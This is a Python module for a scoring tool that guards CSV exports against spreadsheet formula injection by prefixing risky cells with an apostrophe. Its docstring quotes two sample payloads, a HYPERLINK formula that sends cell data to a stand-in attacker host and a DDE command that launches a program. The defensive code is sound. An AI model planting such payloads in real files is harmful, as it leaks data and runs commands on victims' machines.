"""CSV cells that a spreadsheet shows as text, never evaluates: the one rule every CSV the
scorer writes goes through (the site's downloads, ``python -m scorer score --format csv``).

A spreadsheet that opens a CSV evaluates a cell starting with ``=``, ``+``, ``-`` or ``@``
as a formula (``=HYPERLINK("https://evil.example/?leak="&A1,"x")``, ``+cmd|' /C calc'!A0``),
and some also one starting with a tab or a carriage return.  OWASP's rule for CSV
injection: such a cell starts with an apostrophe, which the spreadsheet takes as "this is
text" and does not show.  The defusedcsv package applies a variant of it (without the tab
and the carriage return, and rewriting every ``|``), so the rule is kept here, in one place.
"""
from __future__ import annotations

import re
from collections.abc import Iterable

#: The first characters that make a spreadsheet evaluate a cell (OWASP, CSV injection).
FORMULA_STARTS = frozenset("=+-@\t\r")
#: A negative number as the CSV writes one (``repr``): a spreadsheet reads it as that
#: number, so it keeps its sign.
_NEGATIVE_NUMBER = re.compile(r"-(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?")


def spreadsheet_cell(value: object) -> object:
    """``value`` as a CSV cell a spreadsheet shows as it is: a text starting with one of
    :data:`FORMULA_STARTS` gets a leading ``'``, except a negative number (``-0.25``,
    ``-1e-05``); any other value (numbers, None, ordinary text) is returned unchanged."""
    if type(value) is str and value[:1] in FORMULA_STARTS and not _NEGATIVE_NUMBER.fullmatch(value):
        return "'" + value
    return value


def spreadsheet_row(row: Iterable[object]) -> list:
    """:func:`spreadsheet_cell` of each value of a row."""
    return [spreadsheet_cell(value) for value in row]
